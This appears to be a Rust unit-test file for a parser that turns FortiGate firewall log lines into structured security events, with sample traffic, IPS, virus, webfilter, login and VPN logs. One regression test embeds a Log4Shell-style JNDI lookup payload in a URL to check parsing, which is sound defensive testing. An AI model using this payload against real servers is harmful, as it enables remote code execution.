use proptest::prelude::*;
use vigil_model::{ActionId, ActivityId, ClassUid, DispositionId, SeverityId, StatusId};

use super::*;

/// 2026-01-01T00:00:00Z: the reference time for RFC 3164 lines without a year.
const REFERENCE_MS: i64 = 1_767_225_600_000;

fn run(line: &str) -> Output {
    let ctx = Context {
        reference_time_ms: REFERENCE_MS,
        ..Context::default()
    };
    let mut out = Output::default();
    normalize(
        &Record::new("test", line.as_bytes().to_vec()),
        &ctx,
        &mut out,
    );
    out
}

/// Normalizes `line`, which must give exactly one event.
fn check(line: &str) -> Event {
    let mut out = run(line);
    assert!(out.rejections.is_empty(), "{:?}", out.rejections);
    assert_eq!(out.events.len(), 1);
    out.events.remove(0)
}

fn iso(ms: i64) -> String {
    crate::time::format_rfc3339_ms(ms)
}

const TRAFFIC: &str = r#"date=2019-05-10 time=11:37:47 logid="0000000013" type="traffic" subtype="forward" level="notice" vd="vdom1" eventtime=1557513467369913239 srcip=10.1.100.11 srcport=58012 srcintf="port12" srcintfrole="undefined" dstip=81.2.69.142 dstport=80 dstintf="port11" dstintfrole="undefined" srcuuid="ae28f494-5735-51e9-f247-d1d2ce663f4b" dstuuid="ae28f494-5735-51e9-f247-d1d2ce663f4b" poluuid="ccb269e0-5735-51e9-a218-a397dd08b7eb" sessionid=105048 proto=6 action="close" policyid=1 policytype="policy" service="HTTP" dstcountry="Canada" srccountry="Reserved" trandisp="snat" transip=172.16.200.2 transport=58012 appid=34050 app="HTTP.BROWSER_Firefox" appcat="Web.Client" apprisk="elevated" applist="g-default" duration=116 sentbyte=1188 rcvdbyte=1224 sentpkt=17 rcvdpkt=16 utmaction="allow" countapp=1 osname="Ubuntu" mastersrcmac="a2:e9:00:ec:40:01" srcmac="a2:e9:00:ec:40:01" srcserver=0 utmref=65500-742"#;

const TRAFFIC_DENY: &str = r#"<188>date=2020-04-23 time=01:16:08 devname="testswitch1" devid="somerouterid" logid="0000000013" type="traffic" subtype="forward" level="notice" vd="OPERATIONAL" eventtime=1592961368 srcip=10.10.10.10 srcport=60899 srcintf="srcintfname" srcintfrole="lan" dstip=67.43.156.13 dstport=161 dstintf="dstintfname" dstintfrole="lan" sessionid=155313 proto=17 action="deny" policyid=0 policytype="policy" service="SNMP" dstcountry="Reserved" srccountry="Reserved" trandisp="noop" duration=0 sentbyte=0 rcvdbyte=0 sentpkt=0 appcat="unscanned" crscore=30 craction=131072 crlevel="high""#;

const IPS: &str = r#"date=2019-05-15 time=17:56:41 logid="0419016384" type="utm" subtype="ips" eventtype="signature" level="alert" vd="root" eventtime=1557968201 severity="critical" srcip=10.1.100.22 srccountry="Reserved" dstip=172.16.200.55 srcintf="port10" srcintfrole="lan" dstintf="port9" dstintfrole="wan" sessionid=4017 action="dropped" proto=6 service="HTTP" policyid=1 attack="Adobe.Flash.newfunction.Handling.Code.Execution" srcport=46810 dstport=80 hostname="172.16.200.55" url="/ips/sig1.pdf" direction="incoming" attackid=23305 profile="block-critical-ips" ref="http://www.fortinet.com/ids/VID23305" incidentserialno=582633933 msg="applications3: Adobe.Flash.newfunction.Handling.Code.Execution," crscore=50 craction=4096 crlevel="critical""#;

const VIRUS: &str = r#"date=2019-05-13 time=11:45:03 logid="0211008192" type="utm" subtype="virus" eventtype="infected" level="warning" vd="vdom1" eventtime=1557773103767393505 msg="File is infected." action="blocked" service="HTTP" sessionid=359260 srcip=10.1.100.11 dstip=172.16.200.55 srcport=60446 dstport=80 srcintf="port12" srcintfrole="undefined" dstintf="port11" dstintfrole="undefined" policyid=4 proto=6 direction="incoming" filename="eicar.com" quarskip="File-was-not-quarantined." virus="EICAR_TEST_FILE" dtype="Virus" ref="http://www.fortinet.com/ve?vn=EICAR_TEST_FILE" virusid=2172 url="http://172.16.200.55/virus/eicar.com" profile="g-default" agent="curl/7.47.0" analyticscksum="275a021bbfb6489e54d471899f7db9d1663fc695ec2fe2a2c4538aabf651fd0f" analyticssubmit="false" crscore=50 craction=2 crlevel="critical""#;

const WEBFILTER: &str = r#"<188>date=2020-04-23 time=12:17:48 devname="testswitch1" devid="somerouterid" logid="0316013056" type="utm" subtype="webfilter" eventtype="ftgd_blk" level="warning" vd="root" eventtime=1587230269052907555 tz="-0500" policyid=100602 sessionid=1234 user="elasticuser" group="elasticgroup" authserver="elasticauth" srcip=192.168.2.1 srcport=61930 srcintf="port1" srcintfrole="lan" dstip=67.43.156.13 dstport=443 dstintf="wan1" dstintfrole="wan" proto=6 service="HTTPS" hostname="elastic.co" profile="elasticruleset" action="blocked" reqtype="direct" url="/config/" sentbyte=1152 rcvdbyte=1130 direction="outgoing" msg="URL belongs to a denied category in policy" method="domain" cat=76 catdesc="Internet Telephony""#;

const DNS: &str = r#"<189>date=2020-04-23 time=12:17:29 devname="testswitch1" devid="somerouterid" logid="1501054802" type="utm" subtype="dns" eventtype="dns-response" level="notice" vd="root" eventtime=1587230249360109339 tz="-0500" policyid=26 sessionid=543234 srcip=192.168.2.1 srcport=53430 srcintf="port1" srcintfrole="lan" dstip=67.43.156.13 dstport=53 dstintf="wan1" dstintfrole="wan" proto=17 profile="test" xid=2234 qname="elastic.example.com" qtype="A" qtypeval=1 qclass="IN" ipaddr="67.43.156.13, 67.43.156.13" msg="Domain is monitored" action="pass" cat=23 catdesc="Web-based Email""#;

const ADMIN_FAILED: &str = r#"2026-04-03T00:31:09.976660+00:00 192.168.2.1 date=2026-04-02 time=17:31:09 devname="FGVMEVVDEADBEEF00" devid="FGVMEVVDEADBEEF00" eventtime=1775176270239669800 tz="-0700" logid="0100032002" type="event" subtype="system" level="alert" vd="root" logdesc="Admin login failed" sn="0" user="admin" ui="https(172.16.1.2)" method="https" srcip=172.16.1.2 dstip=172.16.1.1 action="login" status="failed" reason="passwd_invalid" msg="Administrator admin login failed from https(172.16.1.2) because of invalid password""#;

const ADMIN_OK_PIPE: &str = r#"2026-04-03T00:33:02.518842+00:00 192.168.2.1 date=2026-04-02 time=17:33:02 devname="FGVMEVVDEADBEEF00" devid="FGVMEVVDEADBEEF00" eventtime=1775176382512343504 tz="-0700" logid="0100032001" type="event" subtype="system" level="information" vd="root" logdesc="Admin login successful" sn="1775176382" user="admin" ui="https(172.16.1.2)" method="https" srcip=172.16.1.2 dstip=172.16.1.1 action="login" status="success" reason="none" profile="super_admin" msg="Administrator admin logged in successfully from https(172.16.1.2)"|"#;

const CONFIG_EDIT: &str = r#"2026-04-03T00:52:20.981841+00:00 192.168.2.1 date=2026-04-02 time=17:52:21 devname="FGVMEVVDEADBEEF00" devid="FGVMEVVDEADBEEF00" eventtime=1775177540899530304 tz="-0700" logid="0100044547" type="event" subtype="system" level="information" vd="root" logdesc="Object attribute configured" user="admin" ui="https(172.16.1.2)" action="Edit" cfgtid=125042742 uuid="eec5c018-2ef6-51f1-bf4b-86de7d1dbef9" cfgpath="firewall.policy" cfgobj="2" cfgattr="groups[->vpn]" msg="Edit firewall.policy 2""#;

const VPN_XAUTH: &str = r#"2026-04-03T15:38:01.091181+00:00 192.168.2.1 date=2026-04-03 time=17:38:00 devname="FGVMEVVDEADBEEF00" devid="FGVMEVVDEADBEEF00" eventtime=1775230679586703973 tz="+0200" logid="0101037120" type="event" subtype="vpn" level="notice" vd="root" logdesc="Negotiate IPsec phase 1" msg="negotiate IPsec phase 1" action="negotiate" remip=172.20.114.249 locip=172.20.121.252 remport=500 locport=500 outintf="port2" srccountry="Reserved" cookies="b6ee0f8883f1be95/18c2d92b40df34ac" user="172.20.114.249" group="N/A" useralt="N/A" eapuser="test01" eapauthgroup="rad_vpn" assignip=N/A vpntunnel="employee" status="success" result="XAUTH authentication successful" peer_notif="N/A" fctuid="N/A" advpnsc=0"#;

const EXTENDER_UNTERMINATED: &str = r#"date=2019-02-20 time=10:02:24 logid="0111046409" type="event" subtype="fortiextender" level="information" vd="root" eventtime=1550685744 logdesc="Remote FortiExtender info activity" sn="FX04DN4N16002352" ip=81.2.69.144 action="Cellular Connecting" apn="N/A" service="N/A" msg="FX04DN4N16002352 STATE: sim with imsi:302720502331361 in slot:2 on carrier:Rogers connecting"#;

const CEF_TRAFFIC: &str = "<134>Dec 27 19:15:40 FGT CEF:0|Fortinet|Fortigate|v6.0.3|00013|traffic:forward close|3|deviceExternalId=FGT5HD3915800610 FTNTFGTlogid=0000000013 cat=traffic:forward FTNTFGTsubtype=forward FTNTFGTlevel=notice FTNTFGTvd=vdom1 FTNTFGTeventtime=1545938140 src=10.1.100.11 spt=54190 deviceInboundInterface=port12 FTNTFGTsrcintfrole=undefined dst=52.53.140.235 dpt=443 deviceOutboundInterface=port11 FTNTFGTdstintfrole=undefined FTNTFGTpoluuid=c2d460aa-fe6f-51e8-9505-41b5117dfdd4 externalId=402 proto=6 act=close FTNTFGTpolicyid=1 FTNTFGTpolicytype=policy app=HTTPS FTNTFGTdstcountry=United States FTNTFGTsrccountry=Reserved FTNTFGTtrandisp=snat sourceTranslatedAddress=172.16.200.1 sourceTranslatedPort=54190 FTNTFGTduration=180 out=3652 in=3326 FTNTFGTsentpkt=58 FTNTFGTrcvdpkt=48 FTNTFGTappcat=unscanned dvchost=FGT-A";

#[test]
fn traffic_close_maps_to_network_activity() {
    let event = check(TRAFFIC);
    assert_eq!(event.class_uid, ClassUid::NetworkActivity);
    assert_eq!(event.activity_id, ActivityId::CLOSE);
    assert_eq!(event.action_id, Some(ActionId::Allowed));
    assert_eq!(iso(event.time), "2019-05-10T18:37:47.369Z");
    let src = event.src_endpoint.as_ref().unwrap();
    assert_eq!(
        src.proxy_endpoint.as_ref().unwrap().ip.as_deref(),
        Some("172.16.200.2")
    );
    assert_eq!(src.location.as_ref().map(|l| l.country.is_some()), None);
    let traffic = event.traffic.unwrap();
    assert_eq!(
        (traffic.bytes_out, traffic.bytes_in, traffic.bytes),
        (Some(1188), Some(1224), Some(2412))
    );
    assert_eq!(event.duration, Some(116_000));
    assert_eq!(event.app_name.as_deref(), Some("HTTP.BROWSER_Firefox"));
    assert_eq!(event.native.pair("utmref"), Some("65500-742"));
    assert_eq!(event.metadata.log_name.as_deref(), Some("traffic/forward"));
    assert_eq!(event.metadata.event_code.as_deref(), Some("0000000013"));
    assert_eq!(event.severity_id, SeverityId::Low);
    insta::assert_json_snapshot!(event.to_json());
}

#[test]
fn traffic_actions() {
    let event = check(TRAFFIC_DENY);
    assert_eq!(event.activity_id, ActivityId::REFUSE);
    assert_eq!(event.action_id, Some(ActionId::Denied));
    assert_eq!(event.disposition_id, Some(DispositionId::BLOCKED));
    assert_eq!(
        event.device.as_ref().unwrap().hostname.as_deref(),
        Some("testswitch1")
    );
    // A 10-digit eventtime is seconds.
    assert_eq!(iso(event.time), "2020-06-24T01:16:08.000Z");
    for (action, activity) in [
        ("server-rst", ActivityId::RESET),
        ("client-rst", ActivityId::RESET),
        ("timeout", ActivityId::CLOSE),
        ("accept", ActivityId::TRAFFIC),
        ("ip-conn", ActivityId::FAIL),
    ] {
        let event = check(&TRAFFIC.replace(r#"action="close""#, &format!(r#"action="{action}""#)));
        assert_eq!(event.activity_id, activity, "{action}");
        assert_eq!(event.action_id, Some(ActionId::Allowed), "{action}");
    }
}

#[test]
fn ips_maps_to_detection_finding() {
    let event = check(IPS);
    assert_eq!(event.class_uid, ClassUid::DetectionFinding);
    let info = event.finding_info.as_ref().unwrap();
    assert_eq!(
        info.title,
        "Adobe.Flash.newfunction.Handling.Code.Execution"
    );
    assert_eq!(info.uid, "23305");
    assert_eq!(
        info.src_url.as_deref(),
        Some("http://www.fortinet.com/ids/VID23305")
    );
    assert_eq!(event.severity_id, SeverityId::Critical);
    assert_eq!(event.disposition_id, Some(DispositionId::DROPPED));
    insta::assert_json_snapshot!(event.to_json());
}

#[test]
fn virus_carries_file_and_url() {
    let event = check(VIRUS);
    let info = event.finding_info.as_ref().unwrap();
    assert_eq!(
        (info.title.as_str(), info.uid.as_str()),
        ("EICAR_TEST_FILE", "2172")
    );
    // No `severity` field: from `level=warning`.
    assert_eq!(event.severity_id, SeverityId::Medium);
    let evidence = event.evidences.first().unwrap();
    assert_eq!(
        evidence.file.as_ref().unwrap().name.as_deref(),
        Some("eicar.com")
    );
    assert_eq!(
        evidence.url.as_ref().unwrap().hostname.as_deref(),
        Some("172.16.200.55")
    );
    insta::assert_json_snapshot!(event.to_json());
}

#[test]
fn webfilter_maps_to_http_activity() {
    let event = check(WEBFILTER);
    assert_eq!(event.class_uid, ClassUid::HttpActivity);
    let url = event.http_request.as_ref().unwrap().url.as_ref().unwrap();
    assert_eq!(url.url_string.as_deref(), Some("elastic.co/config/"));
    assert_eq!(url.categories, vec!["Internet Telephony"]);
    assert_eq!(event.disposition_id, Some(DispositionId::BLOCKED));
    let actor = event.actor.as_ref().unwrap().user.as_ref().unwrap();
    assert_eq!(actor.name.as_deref(), Some("elasticuser"));
    insta::assert_json_snapshot!(event.to_json());
}

#[test]
fn dns_filter_maps_to_http_activity_with_the_query_name() {
    let event = check(DNS);
    assert_eq!(event.class_uid, ClassUid::HttpActivity);
    let url = event.http_request.as_ref().unwrap().url.as_ref().unwrap();
    assert_eq!(url.hostname.as_deref(), Some("elastic.example.com"));
    assert_eq!(
        event.native.pair("ipaddr"),
        Some("67.43.156.13, 67.43.156.13")
    );
}

#[test]
fn admin_login_failed_behind_relay_prefix() {
    let event = check(ADMIN_FAILED);
    assert_eq!(event.class_uid, ClassUid::Authentication);
    assert_eq!(event.activity_id, ActivityId::LOGON);
    assert_eq!(event.status_id, Some(StatusId::Failure));
    assert_eq!(event.status_detail.as_deref(), Some("passwd_invalid"));
    assert_eq!(event.user.as_ref().unwrap().name.as_deref(), Some("admin"));
    assert_eq!(
        event.src_endpoint.as_ref().unwrap().ip.as_deref(),
        Some("172.16.1.2")
    );
    assert_eq!(event.unmapped["logon_type_id"], 10);
    // 19-digit eventtime is nanoseconds.
    assert_eq!(iso(event.time), "2026-04-03T00:31:10.239Z");
    insta::assert_json_snapshot!(event.to_json());
}

#[test]
fn admin_login_success_with_trailing_pipe() {
    let event = check(ADMIN_OK_PIPE);
    assert_eq!(event.status_id, Some(StatusId::Success));
    assert_eq!(event.status_detail, None);
    assert_eq!(
        event.native.pair("msg"),
        Some("Administrator admin logged in successfully from https(172.16.1.2)")
    );
    // Without `srcip`, the address comes from `ui`.
    let without_srcip = ADMIN_OK_PIPE.replace("srcip=172.16.1.2 ", "");
    let event = check(&without_srcip);
    assert_eq!(
        event.src_endpoint.as_ref().unwrap().ip.as_deref(),
        Some("172.16.1.2")
    );
}

#[test]
fn config_change_maps_to_entity_management() {
    let event = check(CONFIG_EDIT);
    assert_eq!(event.class_uid, ClassUid::EntityManagement);
    assert_eq!(event.activity_id, ActivityId::UPDATE);
    let entity = event.entity.as_ref().unwrap();
    assert_eq!(entity.type_name.as_deref(), Some("firewall.policy"));
    assert_eq!(entity.name.as_deref(), Some("2"));
    insta::assert_json_snapshot!(event.to_json());
    for (action, activity) in [("Add", ActivityId::CREATE), ("Delete", ActivityId::DELETE)] {
        let event =
            check(&CONFIG_EDIT.replace(r#"action="Edit""#, &format!(r#"action="{action}""#)));
        assert_eq!(event.activity_id, activity);
    }
}

#[test]
fn vpn_xauth_negotiation_is_authentication() {
    let event = check(VPN_XAUTH);
    assert_eq!(event.class_uid, ClassUid::Authentication);
    assert_eq!(event.user.as_ref().unwrap().name.as_deref(), Some("test01"));
    assert_eq!(
        event.src_endpoint.as_ref().unwrap().ip.as_deref(),
        Some("172.20.114.249")
    );
    assert_eq!(event.status_id, Some(StatusId::Success));
    assert_eq!(event.native.pair("assignip"), Some("N/A"));
    insta::assert_json_snapshot!(event.to_json());
    // Without a user name it is only a negotiation.
    let event = check(&VPN_XAUTH.replace(r#"eapuser="test01""#, r#"eapuser="N/A""#));
    assert_eq!(event.class_uid, ClassUid::Base);
    assert_eq!(
        event.activity_name.as_deref(),
        Some("Negotiate IPsec phase 1")
    );
}

#[test]
fn other_events_are_base_and_unterminated_quote_is_kept() {
    let event = check(EXTENDER_UNTERMINATED);
    assert_eq!(event.class_uid, ClassUid::Base);
    assert_eq!(
        event.activity_name.as_deref(),
        Some("Remote FortiExtender info activity")
    );
    assert!(event
        .message
        .as_deref()
        .unwrap()
        .ends_with("carrier:Rogers connecting"));
    insta::assert_json_snapshot!(event.to_json());
}

#[test]
fn date_time_and_tz_when_no_eventtime() {
    let line = r#"<189>date=2020-04-23 time=12:17:45 devname="fw" logid="0100040704" type="event" subtype="system" level="notice" tz="-0500" msg="x""#;
    let event = check(line);
    assert_eq!(iso(event.time), "2020-04-23T17:17:45.000Z");
    assert_eq!(
        event.metadata.original_time.as_deref(),
        Some("2020-04-23 12:17:45")
    );
    let event = check(&line.replace(r#" tz="-0500""#, ""));
    assert_eq!(iso(event.time), "2020-04-23T12:17:45.000Z");
}

#[test]
fn syslog_header_shapes() {
    let body = r#"date=2020-04-23 time=12:17:45 devname="fw1" devid="FG100" logid="0100040704" type="event" subtype="system" level="notice" msg="x""#;
    for line in [
        body.to_owned(),
        format!("<189>{body}"),
        format!("<189>Apr 23 12:17:45 fw1 {body}"),
        format!("<189>1 2020-04-23T12:17:45Z fw1 - - - - {body}"),
        format!("2026-04-03T00:31:09.976660+00:00 192.168.2.1 {body}"),
    ] {
        let event = check(&line);
        assert_eq!(iso(event.time), "2020-04-23T12:17:45.000Z", "{line}");
        assert_eq!(event.native.pair("devname"), Some("fw1"), "{line}");
        let Native::Pairs(pairs) = &event.native else {
            panic!("{line}")
        };
        assert_eq!(
            pairs.first().map(|(k, _)| k.as_str()),
            Some("date"),
            "{line}"
        );
    }
}

#[test]
fn fortigate_cef_traffic() {
    let event = check(CEF_TRAFFIC);
    assert_eq!(event.class_uid, ClassUid::NetworkActivity);
    assert_eq!(event.activity_id, ActivityId::CLOSE);
    assert_eq!(event.metadata.product.version.as_deref(), Some("v6.0.3"));
    assert_eq!(
        event.src_endpoint.as_ref().unwrap().ip.as_deref(),
        Some("10.1.100.11")
    );
    let traffic = event.traffic.unwrap();
    assert_eq!(
        (traffic.bytes_out, traffic.bytes_in),
        (Some(3652), Some(3326))
    );
    assert_eq!(event.native.pair("logid"), Some("0000000013"));
    assert_eq!(event.native.pair("type"), Some("traffic"));
    assert_eq!(
        event.device.as_ref().unwrap().hostname.as_deref(),
        Some("FGT-A")
    );
    insta::assert_json_snapshot!(event.to_json());
}

#[test]
fn not_fortigate_is_rejected() {
    for line in [
        "",
        "hello world",
        "a=1 b=2",
        "<14>Jan  1 00:00:00 host sshd[1]: Accepted password for root",
        "1,2020/01/01 00:00:00,serial,TRAFFIC,end",
        "CEF:0|Palo Alto Networks|PAN-OS|10|end|TRAFFIC|1|src=1.2.3.4",
    ] {
        let out = run(line);
        assert!(out.events.is_empty(), "{line:?}");
        assert_eq!(out.rejections.len(), 1, "{line:?}");
        assert_eq!(out.rejections[0].reason, "not_fortigate");
    }
}

#[test]
fn every_real_sample_normalizes() {
    let dir = std::path::Path::new(concat!(
        env!("CARGO_MANIFEST_DIR"),
        "/../../../shared/samples/fortigate"
    ));
    if !dir.is_dir() {
        println!("skipped: shared samples not found at {}", dir.display());
        return;
    }
    let mut count = 0;
    for name in [
        "elastic-test-fortinet.log",
        "elastic-test-fortinet-7-4-subset.log",
        "elastic-test-fortinet-7-6.log",
    ] {
        let text = std::fs::read_to_string(dir.join(name)).unwrap();
        for line in text.lines() {
            let event = check(line);
            assert!(
                (946_684_800_000..4_102_444_800_000).contains(&event.time),
                "{name}: {line}"
            );
            assert!(event.metadata.event_code.is_some(), "{name}: {line}");
            count += 1;
        }
    }
    assert_eq!(count, 65);
}

proptest! {
    #[test]
    fn never_panics_on_any_text(s in ".{0,300}") {
        let out = run(&s);
        prop_assert_eq!(out.events.len() + out.rejections.len(), 1);
    }

    #[test]
    fn never_panics_on_mangled_lines(cut in 0usize..900, junk in "[= \"|\t a-z0-9()]{0,40}") {
        for base in [TRAFFIC, IPS, WEBFILTER, ADMIN_FAILED, CONFIG_EDIT, CEF_TRAFFIC] {
            let mut line: String = base.chars().take(cut).collect();
            line.push_str(&junk);
            let out = run(&line);
            prop_assert_eq!(out.events.len() + out.rejections.len(), 1);
        }
    }
}

/// Regression: a relative URL with `://` in its query was read as absolute, its "scheme" being
/// `/?x=${jndi:ldap`.
#[test]
fn relative_url_with_a_url_in_its_query_stays_relative() {
    let line = r#"date=2021-12-10 time=10:00:00 logid="0316013056" type="utm" subtype="webfilter" eventtype="ftgd_allow" level="notice" vd="root" eventtime=1639130400 srcip=203.0.113.7 srcport=51000 dstip=10.0.0.5 dstport=80 proto=6 hostname="shop.example.com" action="passthrough" url="/?x=${jndi:ldap://h/a}" method="domain" cat=52 catdesc="Information Technology""#;
    let mut out = crate::Output::default();
    super::normalize(
        &crate::Record::new("t", line),
        &crate::Context::default(),
        &mut out,
    );
    let event = &out.events[0];
    let url = event.http_request.as_ref().unwrap().url.as_ref().unwrap();
    assert_eq!(url.scheme, None);
    assert_eq!(url.hostname.as_deref(), Some("shop.example.com"));
    assert_eq!(url.path.as_deref(), Some("/"));
    assert_eq!(url.query_string.as_deref(), Some("x=${jndi:ldap://h/a}"));
}
